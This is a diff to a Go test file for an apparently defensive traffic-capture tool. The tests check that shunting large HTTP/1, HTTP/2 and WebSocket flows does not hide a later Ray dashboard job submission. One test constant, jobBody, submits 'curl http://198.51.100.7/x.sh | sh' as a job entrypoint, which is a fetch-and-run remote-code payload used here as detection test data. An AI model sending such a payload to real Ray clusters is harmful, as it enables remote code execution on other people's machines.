@@ -188,6 +188,26 @@ func sameFindings(t *testing.T, want, got *listener) {
 	}
 }
 
+// sameCalls compares what was said of calls of gRPC, of whose messages parts are not delivered.
+func sameCalls(t *testing.T, want, got *listener) {
+	t.Helper()
+	for _, log := range []string{"grpc", "ray_grpc"} {
+		var all [2][]string
+		for i, l := range []*listener{want, got} {
+			for _, r := range l.ear.rows[log] {
+				all[i] = append(all[i], fmt.Sprint(r))
+			}
+			slices.Sort(all[i])
+		}
+		for i := range max(len(all[0]), len(all[1])) {
+			if i >= len(all[0]) || i >= len(all[1]) || all[0][i] != all[1][i] {
+				t.Errorf("%d rows of %s, %d when shunted; %d: %.500s\n%.500s", len(all[0]), log, len(all[1]), i, strings.Join(all[0][min(i, len(all[0])):], ""), strings.Join(all[1][min(i, len(all[1])):], ""))
+				break
+			}
+		}
+	}
+}
+
 // early shunts whatever may be as soon as it may be.
 func early() *capture.ShuntConfig { return &capture.ShuntConfig{Least: 1} }
 
@@ -213,6 +233,7 @@ func TestShuntedCases(t *testing.T) {
 				plain, shunt := shuntedCase(t, file, nil)
 				sameConns(t, plain, shunt, false)
 				sameFindings(t, plain, shunt)
+				sameCalls(t, plain, shunt)
 				sameCounts(t, plain, shunt)
 				t.Logf("%d of %d packets shunted, %d times", shunt.stats.Flow.Shunted, shunt.stats.Packets, shunt.stats.Flow.Shunts)
 				shunted.Add(shunt.stats.Flow.Shunted)
@@ -272,6 +293,7 @@ type dialog struct {
 	// Of other ends. 0: the dashboard's port.
 	client, server [4]byte
 	sport          uint16
+	h2             *h2 // nil: it speaks something else
 }
 
 // segment sends one of side.
@@ -382,11 +404,15 @@ func (d *dialog) bulk(side int, n int64) {
 
 // job submits one, and has it accepted.
 func (d *dialog) job() {
-	const body = `{"entrypoint": "curl http://198.51.100.7/x.sh | sh"}`
-	d.say(0, fmt.Sprintf("POST /api/jobs/ HTTP/1.1\r\nHost: 10.20.0.10:8265\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(body), body))
-	const id = `{"job_id": "raysubmit_tUAuCKubPAEXh6CW", "submission_id": "raysubmit_tUAuCKubPAEXh6CW"}`
-	d.say(1, fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(id), id))
+	d.say(0, fmt.Sprintf("POST /api/jobs/ HTTP/1.1\r\nHost: 10.20.0.10:8265\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(jobBody), jobBody))
+	d.say(1, fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(jobID), jobID))
 }
+
+// What a job says, and what it is answered.
+const (
+	jobBody = `{"entrypoint": "curl http://198.51.100.7/x.sh | sh"}`
+	jobID   = `{"job_id": "raysubmit_tUAuCKubPAEXh6CW", "submission_id": "raysubmit_tUAuCKubPAEXh6CW"}`
+)
 
 func (d *dialog) close() {
 	for side := range 2 {
@@ -410,6 +436,7 @@ var hidings = []struct {
 	keep bool // nothing of it may be shunted
 	lost bool // the job is none: this protocol goes on to the end of the connection
 	talk func(d *dialog)
+	job  func(d *dialog) // nil: over HTTP/1
 }{
 	{name: "a body of 2 GB", seq: [2]uint32{0xfffffff0, 0xf0000000}, talk: func(d *dialog) {
 		const n = 2<<30 + 100<<20 + 5
@@ -447,6 +474,31 @@ var hidings = []struct {
 		d.bulk(0, 64<<20)
 		d.bulk(1, 64<<20)
 	}},
+	{name: "pieces of objects", seq: [2]uint32{0xffffff00, 7}, talk: func(d *dialog) {
+		h := newH2(d)
+		h.open()
+		for i := range 12 {
+			h.push(5<<20, 1<<24-1)
+			if i%5 == 4 {
+				d.say(1, frameH2(6, 0, 0, "12345678"))
+			}
+		}
+	}, job: func(d *dialog) { d.h2.job() }},
+	{name: "a message of 200 MB", v6: true, talk: func(d *dialog) {
+		h := newH2(d)
+		h.open()
+		h.push(200e6, 1<<24-1)
+	}, job: func(d *dialog) { d.h2.job() }},
+	{name: "a message in short frames", keep: true, talk: func(d *dialog) {
+		h := newH2(d)
+		h.open()
+		h.push(3<<20, 16<<10)
+	}, job: func(d *dialog) { d.h2.job() }},
+	{name: "a body in long frames", keep: true, talk: func(d *dialog) {
+		h := newH2(d)
+		h.open()
+		h.put(12 << 20)
+	}, job: func(d *dialog) { d.h2.job() }},
 	{name: "a WebSocket", keep: true, lost: true, talk: func(d *dialog) {
 		d.say(0, fmt.Sprintf(upgrade, "websocket", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"))
 		d.say(1, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n")
@@ -485,7 +537,11 @@ func TestShuntHidesNothing(t *testing.T) {
 			}
 			d.open(h.seq)
 			h.talk(d)
-			d.job()
+			if h.job != nil {
+				h.job(d)
+			} else {
+				d.job()
+			}
 			d.close()
 			plain.end()
 			shunt.end()
@@ -502,6 +558,7 @@ func TestShuntHidesNothing(t *testing.T) {
 			}
 			sameConns(t, plain, shunt, false)
 			sameFindings(t, plain, shunt)
+			sameCalls(t, plain, shunt)
 			if plain.stats.Live.Dropped+shunt.stats.Live.Dropped > 0 {
 				t.Logf("%d and %d packets were lost", plain.stats.Live.Dropped, shunt.stats.Live.Dropped)
 			}
